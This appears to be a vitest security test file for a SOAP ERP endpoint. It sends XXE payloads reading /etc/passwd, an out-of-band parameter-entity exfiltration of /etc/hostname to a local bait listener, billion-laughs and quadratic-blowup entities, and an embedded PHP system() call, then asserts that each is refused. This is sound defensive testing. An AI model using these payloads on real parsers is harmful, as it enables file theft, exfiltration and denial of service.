/**
 * Hostile XML against POST /erp/soap over real sockets (issue #11 item 4): external entities (a file, a URL this
 * test listens on), parameter entities, billion laughs, oversize bodies, deep nesting, element and attribute
 * floods, malformed documents, foreign encodings and media types. Each is a SOAP Client fault (1.2: Sender, HTTP
 * 400), nothing is expanded or fetched, the server keeps serving, the write the request carried did not happen,
 * and the journal recorded the refused exchange.
 */
import { connect, createServer, type Server, type Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../../../src/server.js';
import {
  createOrder,
  env11,
  env12,
  expectRefusedAndUnchanged,
  faultOf,
  getCustomer,
  newClient,
  post,
  SOAP_XML,
  startErp,
  TEXT_XML,
  type Answer,
  type Fault,
} from '../../fixtures/soap/soap-http.js';

let server: RunningServer;
/** a listener an external entity points at: nothing may ever connect to it */
let bait: Server;
let baitPort: number;
const baitSockets: Socket[] = [];
/** every socket the bait ever accepted, destroyed at the end (a keep-alive client would hold it open) */
const allBaitSockets: Socket[] = [];

beforeAll(async () => {
  server = await startErp();
  bait = createServer((socket) => {
    baitSockets.push(socket);
    allBaitSockets.push(socket);
    socket.end('HTTP/1.1 200 OK\r\ncontent-length: 14\r\n\r\nBAIT-CONTENTS!');
  });
  await new Promise<void>((resolve) => bait.listen(0, '127.0.0.1', resolve));
  baitPort = (bait.address() as { port: number }).port;
});

afterAll(async () => {
  const closed = new Promise((resolve) => bait.close(resolve));
  for (const socket of allBaitSockets) socket.destroy();
  await closed;
});

let orders = 0;
const orderNumber = (label: string) => `HOSTILE-${label}-${++orders}`;

interface Refusal {
  answer: Answer;
  fault: Fault;
}

/**
 * Sends `body` as client `label`, expects a fault with `status`, and the usual aftermath (state unchanged, journal,
 * the next request answered).
 */
async function refused(
  label: string,
  body: string | Buffer,
  options: { status?: number; contentType?: string; order?: string; headers?: Record<string, string> } = {},
): Promise<Refusal> {
  const client = newClient(label);
  const contentType = options.contentType ?? TEXT_XML;
  const answer = await post(server, body, { 'content-type': contentType, 'x-understudy-client': client, ...options.headers });
  const status = options.status ?? (contentType.startsWith('application/soap+xml') ? 400 : 500);
  expect(answer.status, answer.text).toBe(status);
  const fault = faultOf(answer);
  if (contentType.startsWith('application/soap+xml')) expect(fault.code).toBe('soapenv:Sender');
  else expect(fault.code).toBe('soapenv:Client');
  await expectRefusedAndUnchanged(server, client, status, options.order);
  return { answer, fault };
}

const doctype = (subset: string, root = 'env:Envelope') => `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE ${root} [${subset}]>`;
/** an envelope (no XML declaration: the DOCTYPE goes first) with a CreateSalesOrder and `reference` in an ignorable header */
const withEntity = (order: string, reference: string) =>
  env11(createOrder(order), `<x:Note xmlns:x="urn:note">${reference}</x:Note>`).replace(/^<\?xml[^>]*\?>/, '');

const LAUGHS = `<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}`;

describe('entities: refused with the DOCTYPE, never expanded, never fetched', () => {
  it('XXE to file:///etc/passwd', async () => {
    const order = orderNumber('xxe-file');
    const { answer, fault } = await refused('xxe-file', doctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">') + withEntity(order, '&xxe;'), { order });
    expect(fault.string).toMatch(/^INVALID_XML: a DOCTYPE is not allowed: DTDs and entity declarations are refused \(at 1:\d+\)$/);
    expect(answer.text).not.toMatch(/root:|\/bin\/|nologin/);
  });

  it('XXE to a URL, an external DTD, and an external parameter entity: nothing ever connects to the URL', async () => {
    const url = `http://127.0.0.1:${baitPort}`;
    const payloads = [
      doctype(`<!ENTITY xxe SYSTEM "${url}/entity">`) + withEntity('%ORDER%', '&xxe;'),
      `<?xml version="1.0"?><!DOCTYPE env:Envelope SYSTEM "${url}/external.dtd">` + withEntity('%ORDER%', ''),
      `<?xml version="1.0"?><!DOCTYPE env:Envelope PUBLIC "-//EVIL//DTD//EN" "${url}/public.dtd">` + withEntity('%ORDER%', ''),
      doctype(`<!ENTITY % remote SYSTEM "${url}/param.dtd"> %remote;`) + withEntity('%ORDER%', '&exfil;'),
      doctype(`<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM '${url}/?x=%file;'>"> %wrap; %send;`) + withEntity('%ORDER%', ''),
    ];
    for (const payload of payloads) {
      const order = orderNumber('xxe-url');
      const { answer, fault } = await refused('xxe-url', payload.replace('%ORDER%', order), { order });
      expect(fault.string).toMatch(/^INVALID_XML: a DOCTYPE is not allowed/);
      expect(answer.text).not.toContain('BAIT-CONTENTS');
    }
    // give any stray fetch time to arrive
    await new Promise((r) => setTimeout(r, 300));
    expect(baitSockets).toHaveLength(0);
    // the bait does count connections
    const res = await new Promise<string>((resolve, reject) => {
      let got = '';
      const socket = connect(baitPort, '127.0.0.1', () => socket.write('GET /check HTTP/1.1\r\nhost: x\r\n\r\n'));
      socket.on('data', (c) => (got += c));
      socket.on('end', () => resolve(got));
      socket.on('error', reject);
    });
    expect(res).toContain('BAIT-CONTENTS!');
    expect(baitSockets).toHaveLength(1);
    baitSockets.length = 0;
  });

  it('parameter entities declaring entities', async () => {
    const order = orderNumber('param');
    const { answer, fault } = await refused('param', doctype(`<!ENTITY % a "<!ENTITY b 'PWNED-BY-PARAMETER'>"> %a;`) + withEntity(order, '&b;'), { order });
    expect(fault.string).toMatch(/^INVALID_XML: .*DOCTYPE/);
    expect(answer.text).not.toContain('PWNED');
  });

  it('billion laughs (nested entities)', async () => {
    const order = orderNumber('laughs');
    const { answer, fault } = await refused('laughs', doctype(LAUGHS) + withEntity(order, '&lol9;'), { order });
    expect(fault.string).toMatch(/^INVALID_XML: a DOCTYPE is not allowed/);
    expect(answer.text).not.toContain('lollol');
    expect(answer.text.length).toBeLessThan(2000);
  });

  it('quadratic blowup (one large entity referenced many times)', async () => {
    const order = orderNumber('quadratic');
    const body = doctype(`<!ENTITY big "${'A'.repeat(30_000)}">`) + withEntity(order, '&big;'.repeat(2000));
    expect(Buffer.byteLength(body)).toBeLessThan(64 * 1024);
    const { answer, fault } = await refused('quadratic', body, { order });
    expect(fault.string).toMatch(/^INVALID_XML: a DOCTYPE is not allowed/);
    expect(answer.text).not.toContain('AAAA');
  });

  it('an entity reference without any DOCTYPE is undefined', async () => {
    const order = orderNumber('undeclared');
    const { fault } = await refused('undeclared', withEntity(order, '&xxe;'), { order });
    expect(fault.string).toMatch(/^INVALID_XML: malformed XML: .*undefined entity/i);
  });

  it('SOAP 1.2: the same refusals are Sender faults with HTTP 400', async () => {
    for (const [label, subset, ref] of [
      ['xxe12', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;'],
      ['laughs12', LAUGHS, '&lol9;'],
    ]) {
      const order = orderNumber(label);
      const body = doctype(subset) + env12(createOrder(order), `<x:Note xmlns:x="urn:note">${ref}</x:Note>`).replace(/^<\?xml[^>]*\?>/, '');
      const { answer, fault } = await refused(label, body, { contentType: 'application/soap+xml; charset=utf-8; action="urn:understudy:erp:v1/CreateSalesOrder"', order });
      expect(fault).toMatchObject({ version: '1.2', code: 'soapenv:Sender' });
      expect(fault.string).toMatch(/^INVALID_XML: a DOCTYPE is not allowed/);
      expect(answer.text).not.toMatch(/root:|lollol/);
    }
  });
});

describe('size and shape limits', () => {
  /** a valid GetCustomer envelope padded with whitespace inside the Envelope to exactly `bytes` */
  const padded = (bytes: number, body = getCustomer()) => {
    const base = env11(body);
    const cut = base.indexOf('<env:Body>');
    return base.slice(0, cut) + ' '.repeat(bytes - Buffer.byteLength(base)) + base.slice(cut);
  };

  it('a body of exactly the limit is read; one byte more is 413 with a fault, the connection closed, the server still serving', async () => {
    const exact = await post(server, padded(64 * 1024), { 'content-type': TEXT_XML });
    expect(exact.status).toBe(200);

    const order = orderNumber('oversize');
    const client = newClient('oversize');
    const body = padded(64 * 1024 + 1, createOrder(order));
    expect(Buffer.byteLength(body)).toBe(64 * 1024 + 1);
    const answer = await post(server, body, { 'content-type': TEXT_XML, 'x-understudy-client': client });
    expect(answer.status).toBe(413);
    expect(answer.headers.connection).toBe('close');
    expect(answer.closed).toBe(true);
    const fault = faultOf(answer);
    expect(fault).toMatchObject({ version: '1.1', code: 'soapenv:Client', detailCode: 'REQUEST_TOO_LARGE' });
    expect(fault.string).toMatch(/^REQUEST_TOO_LARGE: /);
    await expectRefusedAndUnchanged(server, client, 413, order);
  });

  it('a much larger body, declared or chunked, is 413 as well (answered without reading it all)', async () => {
    const variants: Array<Record<string, string>> = [{ 'content-type': TEXT_XML }, { 'content-type': TEXT_XML, 'transfer-encoding': 'chunked' }];
    for (const headers of variants) {
      const order = orderNumber('huge');
      const client = newClient('huge');
      const answer = await post(server, env11(createOrder(order), `<x:Pad xmlns:x="urn:pad">${'x'.repeat(2 * 1024 * 1024)}</x:Pad>`), { ...headers, 'x-understudy-client': client });
      expect(answer.status).toBe(413);
      expect(answer.closed).toBe(true);
      expect(faultOf(answer).detailCode).toBe('REQUEST_TOO_LARGE');
      await expectRefusedAndUnchanged(server, client, 413, order);
    }
  });

  it('SOAP 1.2: an oversize body gets a 1.2 fault, still 413', async () => {
    const client = newClient('oversize12');
    const answer = await post(server, env12(createOrder(orderNumber('o12')), `<x:Pad xmlns:x="urn:pad">${'x'.repeat(70_000)}</x:Pad>`), { 'content-type': SOAP_XML, 'x-understudy-client': client });
    expect(answer.status).toBe(413);
    expect(faultOf(answer)).toMatchObject({ version: '1.2', code: 'soapenv:Sender', detailCode: 'REQUEST_TOO_LARGE' });
    await expectRefusedAndUnchanged(server, client, 413);
  });

  it('1000 levels of nesting: a fault naming the depth limit', async () => {
    const order = orderNumber('deep');
    const { fault } = await refused('deep', env11(createOrder(order, '<a>'.repeat(1000) + '</a>'.repeat(1000))), { order });
    expect(fault.string).toMatch(/^INVALID_XML: elements nested deeper than 32 \(at 1:\d+\)$/);
  });

  it('nesting just inside the limit parses (and is then refused by the schema, not the reader)', async () => {
    // Envelope, Body, CreateSalesOrder are 3 levels: 29 more make 32
    const order = orderNumber('deep-ok');
    const { fault } = await refused('deep-ok', env11(createOrder(order, '<a>'.repeat(29) + '</a>'.repeat(29))), { order });
    expect(fault.string).toMatch(/^VALIDATION_FAILED: .*CreateSalesOrder\/a is not an element of CreateSalesOrder/);
    const { fault: deeper } = await refused('deep-33', env11(createOrder(orderNumber('deep-33'), '<a>'.repeat(30) + '</a>'.repeat(30))));
    expect(deeper.string).toMatch(/^INVALID_XML: elements nested deeper than 32/);
  });

  it('many attributes on one element', async () => {
    for (const n of [65, 5000]) {
      const order = orderNumber('attrs');
      const attrs = Array.from({ length: n }, (_, i) => ` a${i}="${i}"`).join('');
      const { fault } = await refused('attrs', env11(createOrder(order).replace('<erp:CreateSalesOrder ', `<erp:CreateSalesOrder${attrs} `)), { order });
      expect(fault.string).toMatch(/^INVALID_XML: more than 64 attributes on <CreateSalesOrder>/);
    }
  });

  it('200,000 elements, and a megabyte of text in one element, on a server whose body limit lets them in', async () => {
    const big = await startErp({ limits: { bodyBytes: 4 * 1024 * 1024 } });
    const flood = env11(createOrder('FLOOD-1', '<n/>'.repeat(200_000)));
    const client = newClient('flood');
    const answer = await post(big, flood, { 'content-type': TEXT_XML, 'x-understudy-client': client });
    expect(answer.status).toBe(500);
    expect(faultOf(answer).string).toMatch(/^INVALID_XML: more than 100000 elements \(at 1:\d+\)$/);
    await expectRefusedAndUnchanged(big, client, 500, 'FLOOD-1');

    const text = env11(createOrder('TEXT-1'), `<x:Note xmlns:x="urn:note">${'t'.repeat(1_000_001)}</x:Note>`);
    const client2 = newClient('text');
    const answer2 = await post(big, text, { 'content-type': TEXT_XML, 'x-understudy-client': client2 });
    expect(answer2.status).toBe(500);
    expect(faultOf(answer2).string).toMatch(/^INVALID_XML: more than 1000000 characters of text in <Note>/);
    await expectRefusedAndUnchanged(big, client2, 500, 'TEXT-1');
  });
});

describe('malformed documents, encodings and media types', () => {
  const order = () => orderNumber('malformed');
  const whole = (n: string) => env11(createOrder(n));

  const cases: Array<[string, (n: string) => string | Buffer, RegExp]> = [
    ['an unclosed tag', (n) => whole(n).replace('</erp:CreateSalesOrder>', ''), /^INVALID_XML: malformed XML: .*unclosed tag|^INVALID_XML: malformed XML: .*unexpected close tag/],
    ['two roots', (n) => whole(n) + whole(n).replace(/^<\?xml[^>]*\?>/, ''), /^INVALID_XML: malformed XML: .*only one root/],
    ['garbage', () => 'this is not XML at all', /^INVALID_XML: malformed XML: /],
    ['binary garbage', () => Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) % 256)), /^INVALID_XML: /],
    ['a truncated document', (n) => whole(n).slice(0, whole(n).length / 2), /^INVALID_XML: malformed XML: /],
    ['a truncated envelope (only its end cut)', (n) => whole(n).slice(0, -3), /^INVALID_XML: malformed XML: /],
    ['invalid UTF-8 bytes', (n) => Buffer.concat([Buffer.from(whole(n).slice(0, 200)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(whole(n).slice(200))]), /^INVALID_XML: the body is not valid UTF-8$/],
    ['Latin-1 bytes in a value', (n) => Buffer.from(whole(n).replace('</erp:ExternalOrderNumber>', '-Caf\xe9</erp:ExternalOrderNumber>'), 'latin1'), /^INVALID_XML: the body is not valid UTF-8$/],
    ['a declared encoding ISO-8859-1', (n) => whole(n).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'), /^INVALID_XML: the document declares encoding ISO-8859-1; only UTF-8 is accepted/],
    ['a processing instruction before the envelope', (n) => whole(n).replace('?>', '?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1:1/x.xsl"?>'), /^INVALID_XML: processing instructions are not allowed \(<\?xml-stylesheet/],
    ['a processing instruction inside the body', (n) => whole(n).replace('<erp:Line>', '<?php system("id"); ?><erp:Line>'), /^INVALID_XML: processing instructions are not allowed \(<\?php/],
    ['an undeclared prefix', (n) => whole(n).replace('<erp:Line>', '<nope:Line>').replace('</erp:Line>', '</nope:Line>'), /^INVALID_XML: malformed XML: .*unbound namespace prefix/i],
    ['a control character', (n) => whole(n).replace('<erp:Line>', '<erp:Line>\u0007'), /^INVALID_XML: malformed XML: .*disallowed character/i],
    ['a comment that never ends', (n) => whole(n).replace('<erp:Line>', '<!-- <erp:Line>'), /^INVALID_XML: malformed XML: /],
  ];

  it.each(cases)('%s', async (label, make, message) => {
    const n = order();
    const { fault } = await refused(label, make(n), { order: n });
    expect(fault.string).toMatch(message);
  });

  it('an empty body', async () => {
    const { fault } = await refused('empty', '');
    expect(fault.string).toBe('INVALID_ENVELOPE: the request has no body; POST a SOAP envelope');
  });

  it('a body of whitespace, or only a comment', async () => {
    for (const body of ['   \n  ', '<?xml version="1.0"?><!-- nothing -->']) {
      const { fault } = await refused('blank', body);
      expect(fault.string).toMatch(/^INVALID_XML: /);
    }
  });

  it('a JSON body with Content-Type application/json is 415 with a fault', async () => {
    const { fault } = await refused('json', JSON.stringify({ GetCustomer: { CustomerId: '0001000003' } }), { contentType: 'application/json', status: 415 });
    expect(fault.string).toMatch(/^UNSUPPORTED_MEDIA_TYPE: application\/json is not a SOAP envelope; send text\/xml \(SOAP 1\.1\) or application\/soap\+xml \(SOAP 1\.2\)$/);
  });

  it('an envelope with another media type, no media type, or a charset other than UTF-8 is 415', async () => {
    const n = order();
    const r1 = await refused('form', whole(n), { contentType: 'application/x-www-form-urlencoded', status: 415, order: n });
    expect(r1.fault.string).toMatch(/^UNSUPPORTED_MEDIA_TYPE: application\/x-www-form-urlencoded/);
    const r2 = await refused('latin1', whole(n), { contentType: 'text/xml; charset=ISO-8859-1', status: 415, order: n });
    expect(r2.fault.string).toBe('UNSUPPORTED_MEDIA_TYPE: charset ISO-8859-1 is not supported; send UTF-8');
    const client = newClient('no-type');
    const answer = await post(server, whole(n), { 'x-understudy-client': client });
    expect(answer.status).toBe(415);
    expect(faultOf(answer).string).toMatch(/^UNSUPPORTED_MEDIA_TYPE: a body without a Content-Type/);
    await expectRefusedAndUnchanged(server, client, 415, n);
  });

  it('SOAP 1.2: malformed XML is a Sender fault with HTTP 400; a JSON body with a 1.2 charset mistake is 415', async () => {
    const n = order();
    const { fault } = await refused('malformed12', env12(createOrder(n)).slice(0, 150), { contentType: SOAP_XML, order: n });
    expect(fault).toMatchObject({ version: '1.2', code: 'soapenv:Sender' });
    expect(fault.string).toMatch(/^INVALID_XML: malformed XML: /);
    const r = await refused('charset12', env12(createOrder(n)), { contentType: 'application/soap+xml; charset=utf-16', status: 415, order: n });
    expect(r.fault).toMatchObject({ version: '1.2', code: 'soapenv:Sender' });
  });
});

describe('after all of it', () => {
  it('the ERP is as seeded: no order and no customer was created by a refused request, and the server answers', async () => {
    // the first customer created now gets the first number after the seeded ones
    const client = newClient('after');
    const answer = await post(
      server,
      env11(`<erp:UpsertCustomer xmlns:erp="urn:understudy:erp:v1"><erp:ExternalId>AFTER-1</erp:ExternalId><erp:Name>After Ltd</erp:Name><erp:Country>GB</erp:Country><erp:CurrencyCode>GBP</erp:CurrencyCode></erp:UpsertCustomer>`),
      { 'content-type': TEXT_XML, 'x-understudy-client': client },
    );
    expect(answer.status).toBe(200);
    expect(answer.text).toContain('<CustomerId>0001000020</CustomerId>');
    const journal = (await fetch(`${server.url}/__admin/journal?system=erp&status=5xx,4xx&limit=1000`).then((r) => r.json())) as { entries: any[] };
    expect(journal.entries.length).toBeGreaterThan(30);
    for (const e of journal.entries) {
      expect(e.protocol).toBe('soap');
      expect(e.effects).toEqual([]);
    }
  });
});
